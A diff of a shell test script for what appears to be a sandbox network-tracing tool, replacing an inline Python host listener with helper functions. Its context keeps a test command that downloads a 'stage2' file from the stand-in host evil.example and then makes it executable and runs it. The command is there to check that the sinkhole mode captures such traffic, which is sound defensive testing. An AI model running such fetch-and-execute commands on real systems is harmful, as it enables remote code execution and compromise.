@@ -17,26 +17,7 @@ PY
 chmod -R a+rX "$SAMPLES"
 
 # a host listener the sandbox must not reach, whatever address it uses
-port_file=$TEST_TMPDIR/port
-hits=$TEST_TMPDIR/hits
-: >"$hits"
-$PY - "$port_file" "$hits" <<'PY' &
-import socket, sys, select, time
-s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(16)
-open(sys.argv[1], "w").write(str(s.getsockname()[1]))
-end = time.time() + 60
-while time.time() < end:
-    r, _, _ = select.select([s], [], [], 0.3)
-    if r:
-        c, a = s.accept(); open(sys.argv[2], "a").write("hit\n"); c.close()
-    try:
-        open(sys.argv[1] + ".stop").close(); break
-    except OSError:
-        pass
-PY
-listener=$!
-for _ in 1 2 3 4 5 6 7 8 9 10; do [ -s "$port_file" ] && break; sleep 0.2; done
-port=$(cat "$port_file")
+host_listener_start || { fail "host listener" "did not start"; exit 1; }
 
 trace dl --net sinkhole -- /bin/sh -c "curl -s -m 5 -o /tmp/p http://evil.example/stage2; \
         chmod +x /tmp/p; /tmp/p; curl -s -m 3 http://127.0.0.1:$port/ >/dev/null; true"
@@ -64,7 +45,6 @@ got=$(jq_py anyip "[(n['kind'], n['address'], n['port'], n['first_bytes']) for n
 [ "$got" = "[('tcp', '198.51.100.7', 8080, 'HELLO')]" ] && pass "sinkhole: connection to any address captured" ||
         fail "sinkhole: connection to any address captured" "got $got; $(head -c 300 "$TEST_TMPDIR/anyip.out")"
 
-touch "$port_file.stop"
-wait "$listener" 2>/dev/null
-[ ! -s "$hits" ] && pass "sinkhole: host listener on 127.0.0.1:$port got no connection" ||
-        fail "sinkhole: host listener on 127.0.0.1:$port got no connection" "$(wc -l <"$hits")"
+host_listener_stop
+[ "$hits" = 0 ] && pass "sinkhole: host listener on 127.0.0.1:$port got no connection" ||
+        fail "sinkhole: host listener on 127.0.0.1:$port got no connection" "$hits connections"
